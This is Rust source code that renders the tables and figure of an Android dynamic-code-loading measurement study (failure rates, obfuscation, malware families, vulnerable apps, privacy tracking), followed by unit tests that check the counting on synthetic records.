    /// Renders every table and the figure as one text report.
    pub fn render_all(&self) -> String {
        let mut out = String::new();
        out.push_str(&self.table2().render());
        out.push('\n');
        out.push_str(&self.table3().render());
        out.push('\n');
        out.push_str(&self.table4().render());
        out.push('\n');
        out.push_str(&self.table5().render());
        out.push('\n');
        out.push_str(&self.table6().render());
        out.push('\n');
        out.push_str(&self.figure3().render());
        out.push('\n');
        out.push_str(&self.table7().render());
        out.push('\n');
        out.push_str(&self.env.render());
        out.push('\n');
        out.push_str(&self.table9().render());
        out.push('\n');
        out.push_str(&self.table10().render());
        out
    }
}

impl Table2 {
    /// Renders the table.
    pub fn render(&self) -> String {
        let mut s = String::new();
        let _ = writeln!(
            s,
            "TABLE II — Dynamic analysis summary ({} apps DEX, {} apps native)",
            self.dex.total, self.native.total
        );
        let _ = writeln!(s, "{:<22}{:>18}{:>18}", "", "DEX", "Native");
        let row = |s: &mut String, label: &str, d: usize, dt: usize, n: usize, nt: usize| {
            let _ = writeln!(
                s,
                "{:<22}{:>10} ({:>5.2}%){:>10} ({:>5.2}%)",
                label,
                d,
                pct(d, dt),
                n,
                pct(n, nt)
            );
        };
        row(
            &mut s,
            "Failure",
            self.dex.failure(),
            self.dex.total,
            self.native.failure(),
            self.native.total,
        );
        row(
            &mut s,
            "  Rewriting failure",
            self.dex.rewriting_failure,
            self.dex.total,
            self.native.rewriting_failure,
            self.native.total,
        );
        row(
            &mut s,
            "  No activity",
            self.dex.no_activity,
            self.dex.total,
            self.native.no_activity,
            self.native.total,
        );
        row(
            &mut s,
            "  Crash",
            self.dex.crash,
            self.dex.total,
            self.native.crash,
            self.native.total,
        );
        row(
            &mut s,
            "  Harness failure",
            self.dex.harness_failure,
            self.dex.total,
            self.native.harness_failure,
            self.native.total,
        );
        row(
            &mut s,
            "Exercised",
            self.dex.exercised,
            self.dex.total,
            self.native.exercised,
            self.native.total,
        );
        row(
            &mut s,
            "Intercepted",
            self.dex.intercepted,
            self.dex.total,
            self.native.intercepted,
            self.native.total,
        );
        s
    }
}

impl Table3 {
    /// Renders the table.
    pub fn render(&self) -> String {
        let mut s = String::new();
        let _ = writeln!(s, "TABLE III — DCL vs. application popularity");
        let _ = writeln!(
            s,
            "{:<16}{:>8}{:>14}{:>12}{:>9}",
            "", "#Apps", "#Downloads", "#Ratings", "Rating"
        );
        let row = |s: &mut String, label: &str, r: &PopularityRow| {
            let _ = writeln!(
                s,
                "{:<16}{:>8}{:>14.0}{:>12.0}{:>9.2}",
                label, r.apps, r.mean_downloads, r.mean_ratings, r.mean_rating
            );
        };
        row(&mut s, "DEX", &self.dex);
        row(&mut s, "Without DEX", &self.without_dex);
        row(&mut s, "Native", &self.native);
        row(&mut s, "Without Native", &self.without_native);
        s
    }
}

impl Table4 {
    /// Renders the table.
    pub fn render(&self) -> String {
        let mut s = String::new();
        let _ = writeln!(s, "TABLE IV — Responsible entity of DCL");
        let _ = writeln!(
            s,
            "{:<8}{:>22}{:>22}{:>22}",
            "", "3rd-party (#Apps)", "Own (#Apps)", "3rd-party & Own"
        );
        let row = |s: &mut String, label: &str, r: &Table4Row| {
            let _ = writeln!(
                s,
                "{:<8}{:>13} ({:>5.2}%){:>13} ({:>5.2}%){:>13} ({:>5.2}%)",
                label,
                r.third_party,
                pct(r.third_party, r.total),
                r.own,
                pct(r.own, r.total),
                r.both,
                pct(r.both, r.total)
            );
        };
        row(&mut s, "DEX", &self.dex);
        row(&mut s, "Native", &self.native);
        s
    }
}

impl Table5 {
    /// Renders the table.
    pub fn render(&self) -> String {
        let mut s = String::new();
        let _ = writeln!(
            s,
            "TABLE V — Apps executing remotely fetched code ({} apps)",
            self.apps.len()
        );
        for (pkg, urls) in &self.apps {
            let _ = writeln!(s, "  {pkg}  <- {}", urls.join(", "));
        }
        s
    }
}

impl Table6 {
    /// Renders the table.
    pub fn render(&self) -> String {
        let mut s = String::new();
        let _ = writeln!(
            s,
            "TABLE VI — Obfuscation techniques out of {} applications",
            self.total
        );
        let row = |s: &mut String, label: &str, n: usize, total: usize| {
            let _ = writeln!(s, "{:<22}{:>8} ({:>5.2}%)", label, n, pct(n, total));
        };
        row(&mut s, "Lexical", self.lexical, self.total);
        row(&mut s, "Reflection", self.reflection, self.total);
        row(&mut s, "Native", self.native, self.total);
        row(&mut s, "DEX encryption", self.dex_encryption, self.total);
        row(
            &mut s,
            "Anti-decompilation",
            self.anti_decompilation,
            self.total,
        );
        s
    }
}

impl Figure3 {
    /// Renders the figure as a text histogram.
    pub fn render(&self) -> String {
        let mut s = String::new();
        let _ = writeln!(s, "FIGURE 3 — #Apps with DEX encryption vs. category");
        for (cat, n) in &self.counts {
            let _ = writeln!(s, "{:<22}{:>4} {}", cat, n, "#".repeat(*n));
        }
        s
    }
}

impl Table7 {
    /// Renders the table.
    pub fn render(&self) -> String {
        let mut s = String::new();
        let total_apps: usize = self.rows.iter().map(|r| r.apps).sum();
        let total_files: usize = self.rows.iter().map(|r| r.files).sum();
        let _ = writeln!(
            s,
            "TABLE VII — Malware detected in DCL ({total_apps} apps, {total_files} files)"
        );
        let _ = writeln!(
            s,
            "{:<8}{:<26}{:>7}{:>7}  Sample app (#Downloads)",
            "Kind", "Family", "#Apps", "#Files"
        );
        for row in &self.rows {
            let sample = row
                .sample
                .as_ref()
                .map(|(p, d)| format!("{p} ({d})"))
                .unwrap_or_default();
            let _ = writeln!(
                s,
                "{:<8}{:<26}{:>7}{:>7}  {}",
                if row.native { "Native" } else { "DEX" },
                row.family,
                row.apps,
                row.files,
                sample
            );
        }
        s
    }
}

impl EnvCounts {
    /// Renders Table VIII.
    pub fn render(&self) -> String {
        let mut s = String::new();
        let _ = writeln!(
            s,
            "TABLE VIII — Malicious code loaded in various configurations over {} files",
            self.total_files
        );
        let row = |s: &mut String, label: &str, n: usize, total: usize| {
            let _ = writeln!(s, "{:<26}{:>6} ({:>5.2}%)", label, n, pct(n, total));
        };
        row(
            &mut s,
            "System time",
            self.time_before_release,
            self.total_files,
        );
        row(
            &mut s,
            "Airplane mode/WiFi ON",
            self.airplane_wifi_on,
            self.total_files,
        );
        row(
            &mut s,
            "Airplane mode/WiFi OFF",
            self.airplane_wifi_off,
            self.total_files,
        );
        row(&mut s, "Location OFF", self.location_off, self.total_files);
        s
    }
}

impl Table9 {
    /// Renders the table.
    pub fn render(&self) -> String {
        let mut s = String::new();
        let _ = writeln!(
            s,
            "TABLE IX — Vulnerable applications ({} apps)",
            self.dex_external.len() + self.native_foreign.len()
        );
        let _ = writeln!(
            s,
            "DEX / External storage (< Android 4.4): {}",
            self.dex_external.len()
        );
        for (pkg, downloads) in &self.dex_external {
            let _ = writeln!(s, "  {pkg} ({downloads})");
        }
        let _ = writeln!(
            s,
            "Native / Internal storage of other applications: {}",
            self.native_foreign.len()
        );
        for (pkg, downloads) in &self.native_foreign {
            let _ = writeln!(s, "  {pkg} ({downloads})");
        }
        s
    }
}

impl Table10 {
    /// Renders the table.
    pub fn render(&self) -> String {
        let mut s = String::new();
        let _ = writeln!(
            s,
            "TABLE X — Privacy tracking in dynamically loaded code ({} apps)",
            self.population
        );
        let _ = writeln!(
            s,
            "{:<26}{:>6}{:>8}  Exclusively 3rd-party (%)",
            "Data type", "Categ", "#Apps"
        );
        for row in &self.rows {
            let cat = match row.privacy.category() {
                dydroid_analysis::PrivacyCategory::Location => "L",
                dydroid_analysis::PrivacyCategory::PhoneIdentity => "PI",
                dydroid_analysis::PrivacyCategory::UserIdentity => "UI",
                dydroid_analysis::PrivacyCategory::UsagePattern => "UP",
                dydroid_analysis::PrivacyCategory::ContentProvider => "CP",
            };
            let _ = writeln!(
                s,
                "{:<26}{:>6}{:>8}  {} ({:.2}%)",
                row.privacy.label(),
                cat,
                row.apps,
                row.exclusively_third_party,
                pct(row.exclusively_third_party, row.apps)
            );
        }
        s
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::{DynamicOutcome, DynamicStatus, LeakSummary, MalwareHit};
    use dydroid_analysis::entity::EntityMix;
    use dydroid_avm::{DclEvent, DclKind};
    use dydroid_workload::AppMetadata;

    fn metadata(category: usize, downloads: u64) -> AppMetadata {
        AppMetadata {
            category,
            downloads,
            rating_count: downloads / 30,
            avg_rating: 4.0,
        }
    }

    fn dcl_event(kind: DclKind, path: &str, call_site: &str) -> DclEvent {
        DclEvent {
            kind,
            path: path.to_string(),
            odex_dir: None,
            call_site_class: call_site.to_string(),
            stack: vec![format!("{call_site}->init")],
            package: "t".to_string(),
            success: true,
        }
    }

    fn empty_dynamic(status: DynamicStatus) -> DynamicOutcome {
        DynamicOutcome {
            status,
            dex_events: Vec::new(),
            native_events: Vec::new(),
            remote_loads: Vec::new(),
            dex_entity: EntityMix::default(),
            native_entity: EntityMix::default(),
            vulns: Vec::new(),
            malware: Vec::new(),
            leaks: Vec::new(),
            leak_types: Vec::new(),
        }
    }

    fn record(package: &str) -> AppRecord {
        AppRecord {
            package: package.to_string(),
            metadata: metadata(0, 1000),
            decompiled: true,
            filter: dydroid_analysis::DclFilter {
                has_dex_dcl: true,
                has_native_dcl: false,
            },
            obfuscation: Default::default(),
            rewritten: false,
            dynamic: Some(empty_dynamic(DynamicStatus::Exercised)),
        }
    }

    #[test]
    fn table2_classifies_statuses() {
        let mut records = Vec::new();
        for (i, status) in [
            DynamicStatus::Exercised,
            DynamicStatus::Crash,
            DynamicStatus::NoActivity,
            DynamicStatus::RewriteFailure,
            DynamicStatus::AnalysisFailure {
                reason: "worker panicked: boom".to_string(),
            },
        ]
        .into_iter()
        .enumerate()
        {
            let mut r = record(&format!("app{i}"));
            r.dynamic = Some(empty_dynamic(status));
            records.push(r);
        }
        // One exercised app actually intercepted.
        let mut hit = record("app.hit");
        let mut d = empty_dynamic(DynamicStatus::Exercised);
        d.dex_events
            .push(dcl_event(DclKind::DexClassLoader, "/p", "com.sdk.X"));
        hit.dynamic = Some(d);
        records.push(hit);

        let report = MeasurementReport::new(records, EnvCounts::default());
        let t2 = report.table2();
        assert_eq!(t2.dex.total, 6);
        assert_eq!(t2.dex.crash, 1);
        assert_eq!(t2.dex.no_activity, 1);
        assert_eq!(t2.dex.rewriting_failure, 1);
        assert_eq!(t2.dex.harness_failure, 1);
        assert_eq!(t2.dex.failure(), 4);
        assert_eq!(t2.dex.exercised, 2);
        assert_eq!(t2.dex.intercepted, 1);
        // No native population at all.
        assert_eq!(t2.native.total, 0);
        assert!(report.table2().render().contains("Harness failure"));
    }

    #[test]
    fn table4_entity_mix_counting() {
        let mk = |own, third| {
            let mut r = record("x");
            let mut d = empty_dynamic(DynamicStatus::Exercised);
            d.dex_events
                .push(dcl_event(DclKind::DexClassLoader, "/p", "c"));
            d.dex_entity = EntityMix {
                own,
                third_party: third,
            };
            r.dynamic = Some(d);
            r
        };
        let report = MeasurementReport::new(
            vec![mk(false, true), mk(true, false), mk(true, true)],
            EnvCounts::default(),
        );
        let t4 = report.table4();
        assert_eq!(t4.dex.total, 3);
        assert_eq!(t4.dex.third_party, 2);
        assert_eq!(t4.dex.own, 2);
        assert_eq!(t4.dex.both, 1);
    }

    #[test]
    fn table7_groups_families_and_picks_top_sample() {
        let mk = |pkg: &str, downloads, family: &str, files| {
            let mut r = record(pkg);
            r.metadata = metadata(0, downloads);
            let mut d = empty_dynamic(DynamicStatus::Exercised);
            for i in 0..files {
                d.malware.push(MalwareHit {
                    path: format!("/m{i}"),
                    family: family.to_string(),
                    score: 1.0,
                    native: false,
                });
            }
            r.dynamic = Some(d);
            r
        };
        let report = MeasurementReport::new(
            vec![
                mk("a.small", 100, "fam", 1),
                mk("a.big", 9_999, "fam", 2),
                mk("b.other", 5, "other_fam", 1),
            ],
            EnvCounts::default(),
        );
        let t7 = report.table7();
        assert_eq!(t7.rows.len(), 2);
        let fam = t7.rows.iter().find(|r| r.family == "fam").unwrap();
        assert_eq!(fam.apps, 2);
        assert_eq!(fam.files, 3);
        assert_eq!(fam.sample.as_ref().unwrap().0, "a.big");
    }

    #[test]
    fn table10_counts_types_and_exclusivity() {
        let mk = |pkg: &str, privacy, excl| {
            let mut r = record(pkg);
            let mut d = empty_dynamic(DynamicStatus::Exercised);
            d.dex_events
                .push(dcl_event(DclKind::DexClassLoader, "/p", "c"));
            d.leak_types.push(LeakSummary {
                privacy,
                exclusively_third_party: excl,
            });
            r.dynamic = Some(d);
            r
        };
        let report = MeasurementReport::new(
            vec![
                mk("a", PrivacyType::Imei, true),
                mk("b", PrivacyType::Imei, false),
                mk("c", PrivacyType::Location, true),
            ],
            EnvCounts::default(),
        );
        let t10 = report.table10();
        assert_eq!(t10.population, 3);
        let imei = t10
            .rows
            .iter()
            .find(|r| r.privacy == PrivacyType::Imei)
            .unwrap();
        assert_eq!(imei.apps, 2);
        assert_eq!(imei.exclusively_third_party, 1);
        let sms = t10
            .rows
            .iter()
            .find(|r| r.privacy == PrivacyType::Sms)
            .unwrap();
        assert_eq!(sms.apps, 0);
    }

    #[test]
    fn figure3_sorted_descending() {
        let mk = |cat| {
            let mut r = record("x");
            r.metadata = metadata(cat, 10);
            r.obfuscation.dex_encryption = true;
            r
        };
        let report = MeasurementReport::new(vec![mk(5), mk(5), mk(21)], EnvCounts::default());
        let fig = report.figure3();
        assert_eq!(fig.counts[0], ("Entertainment".to_string(), 2));
        assert_eq!(fig.counts[1], ("Tools".to_string(), 1));
    }

    #[test]
    fn table5_only_exercised_remote_apps() {
        let mut remote = record("r");
        let mut d = empty_dynamic(DynamicStatus::Exercised);
        d.remote_loads
            .push(("/f".to_string(), vec!["http://x.com/p".to_string()]));
        remote.dynamic = Some(d);
        let mut crashed_remote = record("c");
        let mut d = empty_dynamic(DynamicStatus::Crash);
        d.remote_loads
            .push(("/f".to_string(), vec!["http://y.com/p".to_string()]));
        crashed_remote.dynamic = Some(d);
        let report = MeasurementReport::new(vec![remote, crashed_remote], EnvCounts::default());
        let t5 = report.table5();
        assert_eq!(t5.apps.len(), 1);
        assert_eq!(t5.apps[0].0, "r");
    }

    #[test]
    fn percentage_helper() {
        assert_eq!(pct(1, 4), 25.0);
        assert_eq!(pct(0, 0), 0.0);
    }

    #[test]
    fn empty_report_renders() {
        let report = MeasurementReport::new(Vec::new(), EnvCounts::default());
        let text = report.render_all();
        assert!(text.contains("TABLE II"));
        assert!(text.contains("TABLE X"));
        assert!(text.contains("FIGURE 3"));
    }

    #[test]
    fn table2_failure_sums() {
        let col = Table2Column {
            total: 100,
            rewriting_failure: 3,
            no_activity: 2,
            crash: 5,
            harness_failure: 4,
            exercised: 86,
            intercepted: 40,
        };
        assert_eq!(col.failure(), 14);
    }
}
